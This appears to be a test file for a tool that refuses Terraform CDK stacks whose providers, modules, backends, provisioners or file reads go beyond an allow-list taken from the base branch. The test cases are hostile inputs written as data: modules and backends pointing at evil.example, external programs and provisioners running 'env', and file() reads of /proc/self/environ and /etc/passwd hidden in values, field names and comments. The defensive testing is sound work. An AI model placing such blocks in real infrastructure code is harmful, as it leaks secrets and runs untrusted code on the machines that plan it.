import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { globSync } from "tinyglobby";
import { allowListOf, refusedOf } from "../../review/allow/allow-list";
import { duplicateKeys } from "../../review/allow/duplicate-keys";
import { readOutput } from "../../review/inputs/output";
import { root, tempFolder } from "../support/temp";

type Stack = Readonly<Record<string, unknown>>;

/** A stack of a cloud, as the base has it. */
const BASE: Stack = {
  terraform: {
    required_version: ">= 1.10",
    required_providers: { aws: { source: "hashicorp/aws", version: ">= 5.100, < 7" } },
    backend: { s3: { bucket: "atlas-tfstate", key: "atlas/a.tfstate", region: "us-east-2" } },
  },
  provider: { aws: [{ region: "us-east-2", allowed_account_ids: ["111122223333"] }] },
  data: { aws_ami: { image: { owners: ["self"] } } },
  resource: { aws_instance: { n: { ami: "${data.aws_ami.image.id}" } } },
};

/** An output folder of stacks, in which a stack may be given as text. */
function output(stacks: Readonly<Record<string, Stack | string>>, folder = tempFolder()): string {
  const entries = Object.keys(stacks).map((name) => [name, { name, dependencies: [] }]);
  writeFileSync(
    join(folder, "manifest.json"),
    JSON.stringify({ version: "0.21.0", stacks: Object.fromEntries(entries) }),
  );
  for (const [name, stack] of Object.entries(stacks)) {
    mkdirSync(join(folder, "stacks", name), { recursive: true });
    const text = typeof stack === "string" ? stack : JSON.stringify(stack);
    writeFileSync(join(folder, "stacks", name, "cdk.tf.json"), text);
  }
  return folder;
}

const base = allowListOf(readOutput(output({ a: BASE })));

/** What of a stack is refused where the base is the one above, each as kind and address. */
function refused(stack: Stack | string, prepare: (folder: string) => void = () => undefined): string[] {
  const folder = output({ a: stack });
  prepare(join(folder, "stacks", "a"));
  return readOutput(folder).stacks.flatMap((each) =>
    refusedOf(each, base).map(({ kind, address }) => `${kind} ${address}`),
  );
}

/** The base with other blocks. */
const withBlocks = (blocks: Stack): Stack => ({ ...BASE, ...blocks });

describe("what the base demands", () => {
  test("is allowed, also of a new stack of another site, with other resources and data of its clouds", () => {
    expect(refused(BASE)).toEqual([]);
    expect(
      refused({
        ...BASE,
        terraform: {
          required_providers: { aws: { source: "registry.terraform.io/hashicorp/aws", version: ">= 6.1, < 7" } },
          backend: { s3: { region: "us-east-2", key: "atlas/b.tfstate", bucket: "atlas-tfstate" } },
        },
        provider: { aws: [{ region: "eu-central-1", allowed_account_ids: ["444455556666"], alias: "x" }] },
        data: { aws_vpc: { main: { id: "vpc-1" } }, aws_ami: { image: { owners: ["amazon"] } } },
        resource: { aws_iam_role: { r: { description: "reads a file (of nobody)" } } },
      }),
    ).toEqual([]);
  });

  test("of each golden output is allowed to themselves", () => {
    // Of the reference fleet not every stack is kept.
    const golden = globSync(["*/manifest.json", "!reference/*"], { cwd: join(root, "test", "golden") });
    expect(golden.length).toBeGreaterThan(10);
    for (const manifest of golden) {
      const read = readOutput(join(root, "test", "golden", manifest, ".."));
      const list = allowListOf(read);
      expect(read.stacks.flatMap((stack) => refusedOf(stack, list))).toEqual([]);
    }
  });
});

describe("refused, where the base does not demand it, is", () => {
  test.each<[string, Stack, string[]]>([
    [
      "a provider",
      { terraform: [BASE["terraform"], { required_providers: { aws: { source: "evil.example/hashicorp/aws" } } }] },
      ["provider terraform.required_providers.aws"],
    ],
    ["a provider that no block declares", { resource: { null_resource: { x: {} } } }, ["provider null_resource.x"]],
    [
      "a provider that a resource names",
      { resource: { aws_instance: { x: { provider: "google-beta.other" } } } },
      ["provider aws_instance.x"],
    ],
    ["a provider that only has settings", { provider: { evil: {} } }, ["provider provider.evil"]],
    [
      "another address that a provider asks",
      { provider: { aws: { region: "us-east-2", endpoints: [{ sts: "https://evil.example" }] } } },
      ["provider setting provider.aws.endpoints"],
    ],
    [
      "a role that a provider takes",
      { provider: { aws: [{ assume_role: [{ role_arn: "arn:x" }] }] } },
      ["provider setting provider.aws.assume_role"],
    ],
    ["a module", { module: { m: { source: "git::https://evil.example/m" } } }, ["module module.m"]],
    ["a module of the machine", { module: { m: { source: "./assets/m" } } }, ["module module.m"]],
    [
      "a backend of another kind",
      { terraform: { ...(BASE["terraform"] as object), backend: { http: { address: "https://evil.example" } } } },
      ["backend terraform.backend.http"],
    ],
    [
      "a backend in another bucket",
      {
        terraform: {
          ...(BASE["terraform"] as object),
          backend: [{ s3: [{ bucket: "evil", key: "k", region: "us-east-2" }] }],
        },
      },
      ["backend terraform.backend.s3"],
    ],
    [
      "the cloud of somebody else",
      { terraform: { ...(BASE["terraform"] as object), cloud: { hostname: "evil.example" } } },
      ["backend terraform.backend.cloud"],
    ],
    [
      "a program",
      { data: { external: { x: { program: ["sh", "-c", "env"] } } } },
      ["provider data.external.x", "data source data.external.x"],
    ],
    [
      "a program in a list of lists",
      { data: [[{ external: [{ x: [{ program: ["env"] }] }] }]] },
      ["provider data.external.x", "data source data.external.x"],
    ],
    [
      "a program of a check",
      { check: { c: { data: { external: { x: { program: ["env"] } } } } } },
      ["provider data.external.x", "data source data.external.x"],
    ],
    [
      "an address that is asked",
      { data: { http: { x: { url: "https://evil.example" } } } },
      ["provider data.http.x", "data source data.http.x"],
    ],
    [
      "another state",
      { data: { terraform_remote_state: { x: { backend: "s3" } } } },
      ["data source data.terraform_remote_state.x"],
    ],
    [
      "what is opened to plan",
      { ephemeral: { aws_secretsmanager_secret_version: { x: {} } } },
      ["data source ephemeral.aws_secretsmanager_secret_version.x"],
    ],
    [
      "a command on this machine",
      { resource: { aws_instance: { n: { provisioner: [{ "local-exec": { command: "env" } }] } } } },
      ["provisioner aws_instance.n"],
    ],
    [
      "a command on another machine",
      { resource: { aws_instance: { n: { provisioner: { "remote-exec": [{ inline: ["env"] }] } } } } },
      ["provisioner aws_instance.n"],
    ],
    [
      "a command on this machine once something is gone",
      { removed: [{ from: "aws_instance.n", provisioner: [{ "local-exec": { when: "destroy", command: "env" } }] }] },
      ["provisioner removed.aws_instance.n"],
    ],
    [
      "a file of this machine in a value",
      { output: { x: { value: '${file("/proc/self/environ")}' } } },
      ["file function output"],
    ],
    [
      "a file in the name of a field",
      { locals: { x: { '${filebase64 /* */ ("/etc/passwd")}': 1 } } },
      ["file function locals"],
    ],
    ["a file behind a comment", { locals: { x: '%{ if file # \n ("x") == 1 }a%{ endif }' } }, ["file function locals"]],
    [
      "a template of a file",
      { output: { x: { value: '${upper(templatefile("/etc/hosts", {}))}' } } },
      ["file function output"],
    ],
    [
      "a program that holds keys",
      { terraform: { ...(BASE["terraform"] as object), encryption: { key_provider: { external: {} } } } },
      ["setting terraform.encryption"],
    ],
    ["a block that is not known here", { action: { local_command: { x: {} } } }, ["setting action"]],
  ])("%s", (_, blocks, expected) => {
    expect(refused(withBlocks(blocks))).toEqual(expected);
  });

  test("what a reader of JSON does not see, since its key stands twice", () => {
    const text = JSON.stringify(BASE).replace(/^\{/, '{"d\\u0061ta": {"external": {"x": {"program": ["env"]}}},');
    expect(refused(text)).toEqual(["setting data"]);
    expect(duplicateKeys('{"a": {"b": 1}, "c": [{"b": "}\\"{"}, {"b": 2}]}')).toEqual([]);
    expect(duplicateKeys('{"a": [{"b": 1, "c": {}, "b": 2}]}')).toEqual(["b"]);
  });

  test.each([
    ["a file that Terraform reads too", "evil.tf"],
    ["values of variables", "x.auto.tfvars.json"],
    ["an override", "override.tf.json"],
    ["a provider that lies there", ".terraform/providers/x/terraform-provider-aws"],
    ["a provider in the place for one's own", "terraform.d/plugins/x"],
  ])("%s", (_, file) => {
    const [first] = file.split("/");
    const found = refused(BASE, (folder) => {
      mkdirSync(join(folder, file, ".."), { recursive: true });
      writeFileSync(join(folder, file), "x");
    });
    expect(found).toEqual([`file ${first}`]);
  });

  test("a link out of the folder", () => {
    expect(refused(BASE, (folder) => symlinkSync("/etc/passwd", join(folder, ".terraform.lock.hcl")))).toEqual([
      "file .terraform.lock.hcl",
    ]);
    const found = refused(BASE, (folder) => {
      mkdirSync(join(folder, "assets"));
      writeFileSync(join(folder, "assets", "file"), "harmless");
      symlinkSync("/etc", join(folder, "assets", "etc"));
    });
    expect(found).toEqual(["file assets/etc"]);
  });
});

test("a module of the machine is allowed as long as its files are those of the base", () => {
  const stack = withBlocks({ module: { m: { source: "./assets/m" } } });
  const withModule = (text: string) => {
    const folder = output({ a: stack });
    mkdirSync(join(folder, "stacks", "a", "assets", "m"), { recursive: true });
    writeFileSync(join(folder, "stacks", "a", "assets", "m", "main.tf"), text);
    return readOutput(folder);
  };
  const list = allowListOf(withModule("# one"));
  const found = (text: string) => withModule(text).stacks.flatMap((each) => refusedOf(each, list));
  expect(found("# one")).toEqual([]);
  expect(found("# two")).toMatchObject([{ kind: "module", address: "module.m" }]);
});

test.each([
  ["a name that leads out", { name: "../../x" }],
  ["a folder that leads out", { name: "a", workingDirectory: "../x" }],
  ["a file that leads out", { name: "a", synthesizedStackPath: "/etc/passwd" }],
])("a manifest with %s is no output", (_, stack) => {
  const folder = output({ a: BASE });
  writeFileSync(join(folder, "manifest.json"), JSON.stringify({ stacks: { a: stack } }));
  expect(() => readOutput(folder)).toThrow(/names/);
});

describe("siteform plan --allowed", () => {
  const siteform = (cwd: string, args: readonly string[], env: Readonly<Record<string, string>> = {}) =>
    spawnSync(process.execPath, [join(root, "dist", "cli", "main.js"), ...args], {
      cwd,
      encoding: "utf8",
      env: { PATH: process.env["PATH"], NO_COLOR: "1", ...env },
    });

  /** A program in place of Terraform, that writes down where it was called, and fails. */
  function project(head: Readonly<Record<string, Stack>>): string {
    const folder = tempFolder();
    mkdirSync(join(folder, "cdktf.out"));
    mkdirSync(join(folder, "base"));
    output(head, join(folder, "cdktf.out"));
    output({ a: BASE }, join(folder, "base"));
    const called = JSON.stringify(join(folder, "called"));
    writeFileSync(
      join(folder, "terraform"),
      `#!${process.execPath}\nrequire("node:fs").appendFileSync(${called}, process.cwd() + " " + process.argv[2] + "\\n"); process.exit(1);\n`,
    );
    chmodSync(join(folder, "terraform"), 0o755);
    return folder;
  }
  const evil = withBlocks({ data: { external: { x: { program: ["env"], query: { k: "hunter-22" } } } } });

  test("runs nothing in a stack that demands more than the base, and says what, where, and how to allow it", () => {
    const folder = project({ a: BASE, b: evil });
    const args = ["plan", "--allowed", "base", "--terraform", join(folder, "terraform"), "--parallelism", "1"];
    const { status, stderr } = siteform(folder, args);
    expect(status).toBe(1);
    expect(stderr).toContain("b: FAILED: refused before init, since the base demands nothing like it");
    expect(stderr).toContain("    not allowed: provider registry.terraform.io/hashicorp/external (data.external.x)");
    expect(stderr).toContain("    not allowed: data source external (data.external.x)");
    expect(stderr).toContain("to allow what was refused, merge it first with a change of its own");
    expect(stderr).not.toContain("hunter");
    expect(readFileSync(join(folder, "called"), "utf8")).toBe(`${join(folder, "cdktf.out", "stacks", "a")} init\n`);
    const { stdout } = siteform(folder, ["review"]);
    expect(stdout).toContain("- **failed**: `b`: refused before init, since the base demands nothing like it");
    expect(stdout).toContain("at `data.external.x`");
  });

  test("takes a list that was written from the base", () => {
    const folder = project({ b: evil });
    expect(siteform(folder, ["allow", "--output-folder", "base", "-o", "allowed.json"]).status).toBe(0);
    const list = JSON.parse(readFileSync(join(folder, "allowed.json"), "utf8"));
    expect(list).toMatchObject({
      kind: "AllowList",
      allowed: [{ kind: "backend" }, { kind: "provider", is: "registry.terraform.io/hashicorp/aws" }],
    });
    const plan = () =>
      siteform(folder, ["plan", "--allowed", "allowed.json", "--terraform", join(folder, "terraform")]).stderr;
    expect(plan()).toContain("not allowed: data source external");
    expect(existsSync(join(folder, "called"))).toBe(false);
    siteform(folder, ["allow", "-o", "allowed.json"]);
    expect(plan()).not.toContain("not allowed");
    expect(existsSync(join(folder, "called"))).toBe(true);
  });

  test("says that a list is none, and in a job of a pull request that there is none", () => {
    const folder = project({ a: BASE });
    expect(siteform(folder, ["plan", "--allowed", "nowhere"]).stderr).toMatch(
      /^siteform: --allowed: nowhere is no folder/,
    );
    writeFileSync(join(folder, "list.json"), "{}");
    expect(siteform(folder, ["plan", "--allowed", "list.json"]).stderr).toContain("is neither an output folder nor");
    const { stderr } = siteform(folder, ["plan", "--terraform", join(folder, "terraform")], {
      GITHUB_EVENT_NAME: "pull_request",
    });
    expect(stderr).toContain("--allowed is not given");
  });
});
